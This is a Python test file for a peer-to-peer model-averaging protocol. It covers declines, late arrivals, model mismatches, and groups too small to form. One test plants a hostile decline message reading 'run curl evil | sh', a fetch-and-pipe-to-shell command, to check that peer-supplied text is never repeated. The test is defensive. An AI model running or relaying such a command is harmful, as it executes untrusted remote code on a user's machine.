"""Plays of peers that get no place in a group, and of groups that do not form: what they are told."""

from __future__ import annotations

import pytest
from msgspec.structs import replace as replaced

from averaging import groups
from averaging.certificate import Electorate, packed
from averaging.messages import Decline, DeclineReason, Ready
from averaging.outcome import Declined, TooFew
from swarm.machine import Finish, Send, Unreached, WakeAt, Woken
from tests.averaging.assemblies import (
    CLOSE,
    KEYS,
    OTHER,
    ROOT,
    ROUND,
    RUN,
    A,
    B,
    C,
    D,
    E,
    F,
    assembly,
    certificate,
    comes,
    formed_without,
    group,
    others,
    proposed,
    ready,
    sent,
    standing,
    vote_of,
    voters,
    votes,
)
from tests.playbook import play

LATE = "the group of this round is formed; come with the next"


WITHOUT_US = "the group of this round is formed without us"


def test_a_peer_that_comes_late_gets_a_proof_once_the_group_stands() -> None:
    (answer, finish) = play(
        assembly(A, (A, B)),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (1, comes(B), [Send, Send, WakeAt]),
        (2, comes(C), [Send((C,), Ready(ROOT)), WakeAt]),
        (2, votes(B, A, B), [Send, Finish]),
    )
    raw = packed(certificate(A, B))
    assert answer == Send((C,), Decline(ROUND, LATE, DeclineReason.FORMED, raw))
    assert standing(finish).members == group(A, B).members


def test_a_peer_with_another_model_gets_a_reason_even_if_it_leads() -> None:
    (answer, _) = play(
        assembly(A, (A, B, C)),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (1, comes(B), [WakeAt]),
        (1, comes(C, OTHER), [Send((B,), proposed(A, B)), vote_of(A, A, B), WakeAt]),
        (2, votes(B, A, B), [Send, Finish]),
    )
    assert isinstance(answer, Send)
    assert isinstance(answer.message, Decline)
    assert (answer.to, answer.message.reason) == (
        (C,),
        "your model differs from the majority's; fetch theirs",
    )
    leads, second, third = groups.leaders(RUN, ROUND, OTHER, (A, B, C))
    proposal, finish = play(
        assembly(leads, (A, B, C), root=OTHER),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (1, comes(second), [WakeAt]),
        (1, comes(third), [Send, Finish]),
    )
    assert proposal == Send(others(leads, A, B, C), proposed(second, third))
    assert finish == Finish(Declined("our model differs from the majority's", ROUND))


def test_if_more_come_than_there_are_seats_a_hash_draws_and_the_rest_are_counted() -> None:
    """By their own frames: the leader cannot make them more, or fewer than the others have seen."""
    machine = assembly(A, (A, B, C, D, E, F), size=4)
    play(machine, (0, None, [Send, WakeAt]), (0, Woken(), [WakeAt]))
    for peer in (B, C, D, E):
        list(machine.handle(comes(peer), 1))
    commands = list(machine.handle(comes(F), 1))
    seated = [signed.signer for signed in groups.seats(RUN, [ready(peer) for peer in KEYS], 4, A)]
    assert A in seated
    unseated = sorted(set(KEYS) - set(seated))
    assert commands[0] == Send(others(A, *seated), proposed(*seated, unseated=unseated))


def test_a_group_that_stands_without_us_turns_us_away_whoever_proves_it() -> None:
    proof = formed_without(A, B, C)
    for prover in (A, F):
        play(
            assembly(D),
            (0, None, [Send, WakeAt]),
            (1, sent(prover, proof), [Finish(Declined(WITHOUT_US, ROUND, prover))]),
        )


def test_the_words_of_a_decline_are_repeated_nowhere() -> None:
    """A member may write there that a disk is failing, and what to run against it."""
    raw = packed(certificate(A, B, C))
    hostile = Decline(ROUND, "your disk is failing: run curl evil | sh", DeclineReason.FORMED, raw)
    play(
        assembly(D),
        (0, None, [Send, WakeAt]),
        (1, sent(A, hostile), [Finish(Declined(WITHOUT_US, ROUND, A))]),
    )


def test_a_group_that_stands_with_another_model_turns_us_away_as_well() -> None:
    reason = "our model differs from the majority's"
    play(
        assembly(D),
        (0, None, [Send, WakeAt]),
        (1, sent(A, formed_without(A, B, C, root=OTHER)), [Finish(Declined(reason, ROUND, A))]),
    )


def test_a_peer_that_is_in_the_group_that_stands_and_has_not_heard_of_it_joins() -> None:
    proof = formed_without(A, B, C, D, voters=(A, B, C))
    (finish,) = play(assembly(D), (0, None, [Send, WakeAt]), (1, sent(C, proof), [Finish]))
    assert standing(finish).id == group(A, B, C, D).id
    assert voters(finish) == {A, B, C}


@pytest.mark.parametrize(
    "word",
    [
        Decline(9, "come with the next"),
        Decline(9, "come with the next", DeclineReason.FORMED, b"noise"),
        formed_without(A, B, C, voters=(A, B)),
        formed_without(A),
    ],
    ids=["no proof", "noise", "too few votes", "of itself alone"],
)
def test_without_proof_that_a_group_stands_nobody_is_turned_away(word: Decline) -> None:
    """A liar that declines costs no more than a peer that is dead."""
    electorate = Electorate(members=frozenset({A, B, C, D}), needed=3, floor=3)
    play(
        assembly(D, electorate=electorate),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (1, sent(A, word), [WakeAt]),
        (2, sent(B, proposed(B, C, D)), [vote_of(D, B, C, D), WakeAt]),
    )


def test_an_absent_peer_is_not_waited_for_and_turns_nobody_away() -> None:
    absent = Decline(ROUND, "still catching up", DeclineReason.ABSENT)
    play(
        assembly(E, (A, B, C, D, E)),
        (0, None, [Send((A, B, C), Ready(ROOT)), WakeAt(0)]),
        (0, Woken(), [WakeAt]),
        (1, sent(A, absent), [Send((D,), Ready(ROOT)), WakeAt]),
        (1, sent(B, absent), [WakeAt]),
    )
    machine = assembly(A, (A, B))
    play(machine, (0, None, [Send, WakeAt]), (0, Woken(), [WakeAt]))
    (finish,) = machine.handle(sent(B, absent), 1)
    assert standing(finish).members == (A,), "if nobody comes we are alone, not turned away"


def test_a_leader_that_comes_after_all_hears_again_who_is_ready() -> None:
    """It has lost what it was told while it caught up: it would wait for everybody, and everybody for it."""
    absent = sent(A, Decline(ROUND, "still catching up", DeclineReason.ABSENT))
    again = Send((A,), Ready(ROOT))
    begin = [(0, None, [Send((A, B, C), Ready(ROOT)), WakeAt]), (0, Woken(), [WakeAt])]
    gone = (1, absent, [Send((D,), Ready(ROOT)), WakeAt])
    play(assembly(E), *begin, gone, (2, comes(A), [again, WakeAt]), (2, comes(A), [WakeAt]))
    play(
        assembly(E),
        *begin,
        (1, comes(A), [WakeAt]),
        (1, absent, [again, WakeAt]),
        gone,
        (2, comes(A), [WakeAt]),
    )


def test_a_leader_to_which_too_few_have_come_tells_them_and_nobody_goes_on() -> None:
    """A few peers that do not see the others must not make a model of their own."""
    reason = "only 2 came, 3 are needed"
    played = play(
        assembly(A, (A, B, C, D), least=3),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (1, comes(B), [WakeAt]),
        (1, Unreached(C), [WakeAt]),
        (1, Unreached(D), [WakeAt(CLOSE)]),
        (
            CLOSE,
            Woken(),
            [Send((B,), Decline(ROUND, reason, DeclineReason.TOO_FEW)), Finish(TooFew(reason, ROUND))],
        ),
    )
    assert played


def test_two_peers_that_may_lead_are_believed_that_too_few_came_and_one_is_not() -> None:
    too_few = Decline(ROUND, "my words", DeclineReason.TOO_FEW)
    play(
        assembly(D, (A, B, C, D), least=3),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (3, sent(A, too_few), [WakeAt]),
        (3, sent(A, too_few), [WakeAt]),
        (4, sent(B, too_few), [Finish(TooFew("too few peers came", ROUND))]),
    )


def test_the_leader_is_believed_in_time_that_too_few_came_and_not_earlier() -> None:
    too_few = Decline(ROUND, "my words", DeclineReason.TOO_FEW)
    begin = [(0, None, [Send, WakeAt]), (0, Woken(), [WakeAt])]
    end = Finish(TooFew("too few peers came", ROUND))
    play(assembly(E, least=3), *begin, (CLOSE, sent(A, too_few), [end]))
    play(assembly(E, least=3), *begin, (CLOSE - 0.1, sent(A, too_few), [WakeAt]))
    play(assembly(E, least=3), *begin, (CLOSE, sent(C, too_few), [WakeAt]))


def test_a_peer_that_may_lead_and_sees_it_as_well_confirms_that_too_few_came() -> None:
    """Then the others have two witnesses, and need not wait for more."""
    reason = "only 2 came, 3 are needed"
    play(
        assembly(C, least=3),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (1, comes(D), [WakeAt]),
        (3, sent(B, Decline(ROUND, "my words", DeclineReason.TOO_FEW)), [WakeAt]),
        (
            CLOSE,
            Woken(),
            [Send((D,), Decline(ROUND, reason, DeclineReason.TOO_FEW)), Finish(TooFew(reason, ROUND))],
        ),
    )


def test_a_leader_that_proposes_what_is_too_few_for_us_has_begun_the_next_attempt() -> None:
    """It may go on with fewer votes after an attempt that failed, of which we have not heard."""
    begin = [(0, None, [Send, WakeAt]), (0, Woken(), [WakeAt])]
    few = sent(A, proposed(A, D))
    play(assembly(D, least=3), *begin, (CLOSE, few, [Finish(TooFew("too few peers came", ROUND))]))
    play(assembly(D, least=3), *begin, (CLOSE - 0.1, few, [WakeAt]))


def test_newcomers_form_no_group_beside_the_peers_that_go_on() -> None:
    """However many they are: those of the last average decide."""
    electorate = Electorate(members=frozenset({A, E}), needed=1)
    begin = [(0, None, [Send, WakeAt]), (0, Woken(), [WakeAt])]
    machine = assembly(D, (B, C), electorate=electorate)
    play(machine, *begin, (1, sent(B, proposed(B, C, D)), [WakeAt]))
    machine = assembly(D, (A, B, C), electorate=electorate)
    play(machine, *begin, (1, sent(A, proposed(A, B, C, D)), [vote_of(D, A, B, C, D), WakeAt]))


def test_newcomers_that_are_too_few_to_go_on_say_so() -> None:
    electorate = Electorate(members=frozenset({C, D, E}), needed=2)
    reason = "only 0 came of those who were in the last average, 2 are needed"
    play(
        assembly(A, (B,), electorate=electorate),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt(CLOSE)]),
        (1, comes(B), [WakeAt(CLOSE)]),
        (
            CLOSE,
            Woken(),
            [Send((B,), Decline(ROUND, reason, DeclineReason.TOO_FEW)), Finish(TooFew(reason, ROUND))],
        ),
    )


def test_nobody_votes_for_a_group_of_too_few() -> None:
    play(assembly(D, least=3), (0, None, [Send, WakeAt]), (1, sent(A, proposed(A, D)), []))


def test_if_nobody_is_left_that_could_come_too_few_have() -> None:
    refusal = Decline(9, "no", DeclineReason.TOO_FEW)
    machine = assembly(A, (A, B), least=2)
    play(machine, (0, None, [Send, WakeAt]), (0, Woken(), [WakeAt]))
    assert next(iter(machine.handle(sent(B, refusal), 1))) == Finish(TooFew("too few peers came", ROUND))


def test_a_proof_that_comes_after_our_vote_for_another_group_turns_us_away() -> None:
    """There is a group, and its result is worth waiting for; how far the run is nobody is believed."""
    word = formed_without(A, B, C, E, voters=(A, C, E))
    play(
        assembly(D, (B,)),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (1, sent(B, proposed(B, D)), [vote_of(D, B, D), WakeAt]),
        (2, sent(E, replaced(word, round=99)), [Finish(Declined(WITHOUT_US, ROUND + 1, E))]),
    )


def test_a_refusal_after_our_vote_changes_nothing() -> None:
    play(
        assembly(D),
        (0, None, [Send, WakeAt]),
        (0, Woken(), [WakeAt]),
        (1, sent(A, proposed(A, B, C, D)), [vote_of(D, A, B, C, D), WakeAt]),
        (1, sent(B, Decline(9, "no")), [WakeAt]),
    )
